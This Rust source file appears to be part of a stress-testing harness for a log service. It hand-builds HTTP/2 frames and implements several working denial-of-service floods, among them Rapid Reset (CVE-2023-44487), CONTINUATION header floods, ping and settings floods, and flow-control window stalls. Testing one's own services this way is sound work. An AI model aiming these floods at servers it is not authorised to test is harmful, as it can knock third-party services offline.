//! HTTP/2 by hand (RFC 9113), as no library would speak it: floods of frames.

use super::{Target, beginnings::PREFACE, target::NETWORKS};
use futures::{FutureExt, future::LocalBoxFuture};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::tcp::{OwnedReadHalf, OwnedWriteHalf},
};

/// Types of frames.
pub(super) const DATA: u8 = 0;
pub(super) const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xbb;

const END_STREAM: u8 = 1;
pub(super) const END_HEADERS: u8 = 4;

/// The setting of the windows that streams begin with.
const INITIAL_WINDOW_SIZE: u8 = 4;

/// Frames that are written at a time.
const AT_ONCE: u32 = 256;

/// Streams that a connection may have at once.
const STREAMS: u32 = 100;

/// A frame. No test sends one of 16 MiB, or on a stream that is no number of 31 bits.
pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

/// A header whose name and value are written out (RFC 7541, section 6.2.2).
pub(super) fn literal(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

/// The headers of a call of a method, or of a request for a path.
pub(super) fn head(post: bool, path: &str) -> Vec<u8> {
    let method = if post { "POST" } else { "GET" };
    let mut block = [
        literal(":method", method),
        literal(":scheme", "http"),
        literal(":path", path),
        literal(":authority", "log"),
    ]
    .concat();
    if post {
        block.extend(literal("content-type", "application/grpc"));
        block.extend(literal("te", "trailers"));
    }
    block
}

/// A call of a method whose message may come.
pub(super) fn call(stream: u32, method: &str) -> Vec<u8> {
    let path = format!("/assay.v1.{method}");
    frame(HEADERS, END_HEADERS, stream, &head(true, &path))
}

/// A request for a path.
fn get(stream: u32, path: &str) -> Vec<u8> {
    let flags = END_HEADERS | END_STREAM;
    frame(HEADERS, flags, stream, &head(false, path))
}

async fn read_on(mut read: OwnedReadHalf, reads: bool) {
    let mut bytes = vec![0; 1 << 16];
    if !reads {
        // The socket's buffers fill, and that is all.
        return std::future::pending().await;
    }
    while let Ok(1..) = read.read(&mut bytes).await {}
}

/// A flood on one connection, until it is closed: `opening`, and then what `more` gives for each
/// number from 0 on.
pub(super) async fn flood(
    target: &Target,
    number: usize,
    opening: &[u8],
    more: impl Fn(u32) -> Vec<u8>,
) -> anyhow::Result<()> {
    let (read, mut write): (_, OwnedWriteHalf) = target.connect(number).await?.into_split();
    let writing = async {
        write.write_all(PREFACE).await?;
        write.write_all(&frame(SETTINGS, 0, 0, b"")).await?;
        write.write_all(opening).await?;
        for turn in (0..u32::MAX / (2 * AT_ONCE)).map(|turn| turn * AT_ONCE) {
            let frames: Vec<u8> = (turn..turn + AT_ONCE).flat_map(&more).collect();
            if frames.is_empty() {
                return std::future::pending().await;
            }
            write.write_all(&frames).await?;
            target.did(AT_ONCE.into());
            tokio::task::yield_now().await;
        }
        anyhow::Ok(())
    };
    // Every second one does not read what it is told.
    tokio::select! {
        () = read_on(read, number.is_multiple_of(2)) => Ok(()),
        ended = writing => ended,
    }
}

fn floods(
    target: Target,
    opening: Vec<u8>,
    more: impl Fn(u32) -> Vec<u8> + 'static,
) -> LocalBoxFuture<'static, ()> {
    async move {
        target
            .each(NETWORKS, async |number| {
                flood(&target, number, &opening, &more).await
            })
            .await;
    }
    .boxed_local()
}

/// Pings, which are to be answered.
pub fn pings(target: Target) -> LocalBoxFuture<'static, ()> {
    floods(target, Vec::new(), |_| frame(PING, 0, 0, &[7; 8]))
}

/// Settings, which are to be acknowledged.
pub fn settings(target: Target) -> LocalBoxFuture<'static, ()> {
    let table = [0, 1, 0, 0, 16, 0];
    floods(target, Vec::new(), move |_| frame(SETTINGS, 0, 0, &table))
}

/// Requests that are taken back at once (CVE-2023-44487).
pub fn resets(target: Target) -> LocalBoxFuture<'static, ()> {
    floods(target, Vec::new(), |number| {
        let stream = 2 * number + 1;
        let cancel = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        let path = "/api/v1/prefix?prefix=&bits=0";
        [get(stream, path), cancel].concat()
    })
}

/// Requests that the node is made to take back, by what is wrong with them.
pub fn provoked(target: Target) -> LocalBoxFuture<'static, ()> {
    floods(target, Vec::new(), |number| mistaken(2 * number + 1))
}

/// A call with a mistake that ends its stream, and not the connection: a window that grows beyond
/// what it may be (RFC 9113, section 6.9.1).
pub fn mistaken(stream: u32) -> Vec<u8> {
    let most = (u32::MAX / 2).to_be_bytes();
    let grown = frame(WINDOW_UPDATE, 0, stream, &most);
    [call(stream, "LogService/PublishStream"), grown].concat()
}

/// Headers that never end.
pub fn continuations(target: Target) -> LocalBoxFuture<'static, ()> {
    let opening = frame(HEADERS, 0, 1, &head(false, "/checkpoint"));
    let more = literal("x", &"y".repeat(100)).repeat(20);
    floods(target, opening, move |_| frame(CONTINUATION, 0, 1, &more))
}

/// Parts of a message that have no bytes, or one, which nobody waits for: the call waits for room
/// that its answers take.
pub fn crumbs(target: Target) -> LocalBoxFuture<'static, ()> {
    let mut opening = Vec::new();
    for stream in (1..2 * STREAMS).step_by(2) {
        opening.extend(call(stream, "LogService/PublishStream"));
    }
    floods(target, opening, |number| {
        let stream = 2 * (number / 2 % STREAMS) + 1;
        let crumb: &[u8] = [&[][..], b"\0"][number as usize % 2];
        frame(DATA, 0, stream, crumb)
    })
}

/// Questions by whoever grants nothing for the answers.
pub fn no_window(target: Target) -> LocalBoxFuture<'static, ()> {
    let mut opening = frame(SETTINGS, 0, 0, &[0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0]);
    let paths = ["/tile/entries/000", "/checkpoint", "/api/v1/checkpoint"];
    for (stream, path) in (1..2 * STREAMS).step_by(2).zip(paths.iter().cycle()) {
        opening.extend(get(stream, path));
    }
    async move {
        target
            .each(8 * NETWORKS, async |number| {
                target.did(STREAMS.into());
                flood(&target, number, &opening, |_| Vec::new()).await
            })
            .await;
    }
    .boxed_local()
}

/// Windows that grow by one, and back to nothing, while answers wait for them.
pub fn windows(target: Target) -> LocalBoxFuture<'static, ()> {
    let window = |bytes: u8| frame(SETTINGS, 0, 0, &[0, INITIAL_WINDOW_SIZE, 0, 0, 0, bytes]);
    let mut opening = window(0);
    for stream in (1..2 * STREAMS).step_by(2) {
        opening.extend(get(stream, "/tile/entries/000"));
    }
    floods(target, opening, move |number| match number % 3 {
        0 => window(1),
        1 => window(0),
        _ => {
            let stream = 2 * (number / 3 % STREAMS) + 1;
            frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())
        }
    })
}

/// Frames that say nothing.
pub fn nothing(target: Target) -> LocalBoxFuture<'static, ()> {
    floods(target, Vec::new(), |number| {
        if number.is_multiple_of(2) {
            frame(PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 16])
        } else {
            frame(UNKNOWN, 0, 0, &[0; 64])
        }
    })
}
